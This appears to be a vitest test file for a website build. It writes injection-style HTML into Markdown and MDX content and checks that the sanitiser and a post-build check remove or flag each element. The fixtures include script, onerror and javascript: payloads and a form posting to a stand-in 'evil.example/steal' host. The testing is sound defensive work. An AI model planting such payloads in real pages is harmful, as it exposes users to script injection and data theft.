import { spawnSync } from 'node:child_process';
import { appendFileSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildWithContent, type ScratchBuild } from '../../scripts/lib/scratch-build';

// One real build over content with script and foreign forms written into an event's Markdown body and a
// campaign's MDX: the Markdown is cleaned on the way in, the MDX (code) is caught by test:dist.
const WORK = '.cache/hostile-content';

const HOSTILE_HTML = [
  '<script>alert(1)</script>',
  '<img src="/favicon.svg" alt="" onerror="alert(2)" />',
  '<a href="javascript:alert(3)">报名</a>',
  '<iframe src="https://evil.example/" title="外站"></iframe>',
  '<form action="https://evil.example/steal" method="post"><button>提交</button></form>',
  '<object data="/x.swf"></object>',
  '<a href="data:text/html,hi">下载</a>',
].join('\n\n');

let build: ScratchBuild;
let check: { status: number | null; output: string };

beforeAll(() => {
  build = buildWithContent(WORK, (content) => {
    appendFileSync(join(content, 'events/2027-ai-lecture.md'), `\n${HOSTILE_HTML}\n\n讲座结束。\n`);
    appendFileSync(join(content, 'campaigns/ip-week.mdx'), `\n${HOSTILE_HTML}\n`);
  });
  const result = spawnSync('npx', ['node', 'scripts/check-dist.ts', build.dist], { encoding: 'utf8' });
  check = { status: result.status, output: `${result.stdout}\n${result.stderr}` };
}, 300_000);

afterAll(() => rmSync(WORK, { recursive: true, force: true }));

/** The problems test:dist reported for one page under one check. */
function reported(page: string, checkName: string): string[] {
  const lines = check.output.split('\n');
  const start = lines.findIndex((line) => line.startsWith(`✗ dist/${page} `) && line.endsWith(`— ${checkName}:`));
  if (start < 0) return [];
  const end = lines.findIndex((line, i) => i > start && !line.startsWith('    '));
  return lines.slice(start + 1, end).map((line) => line.trim());
}

describe('editors cannot publish script or foreign forms', () => {
  it('the build itself succeeds: Markdown is cleaned, MDX is left to the post-build check', () => {
    expect(build.status, build.output.slice(-2000)).toBe(0);
  });

  it('an event body keeps its text and loses every hostile element, handler and link', () => {
    const html = readFileSync(join(build.dist, 'events/2027-ai-lecture/index.html'), 'utf8');
    expect(html).toContain('讲座结束。');
    expect(html).not.toMatch(/alert\(|onerror|javascript:|<iframe|evil\.example|<object|x\.swf|data:text/);
    expect(reported('events/2027-ai-lecture/index.html', "only the site's own scripts, forms and link schemes")).toEqual([]);
  });

  it('test:dist fails on the MDX page, naming the page and each offending element or attribute', () => {
    expect(check.status).toBe(1);
    expect(reported('ip-week/index.html', "only the site's own scripts, forms and link schemes")).toEqual([
      'inline <script> "alert(1)": its hash is not in the page\'s CSP, so it is not one of the site\'s own',
      '<img onerror="alert(2)">: event-handler attributes are not allowed',
      '<a href="javascript:alert(3)">: the javascript: scheme is not allowed (only https, http, tel, mailto and paths on this site)',
      '<iframe> is not allowed on the site',
      '<form action="https://evil.example/steal">: a form may only submit to this site',
      '<object> is not allowed on the site',
      '<a href="data:text/html,hi">: the data: scheme is not allowed (only https, http, tel, mailto and paths on this site)',
    ]);
  });
});
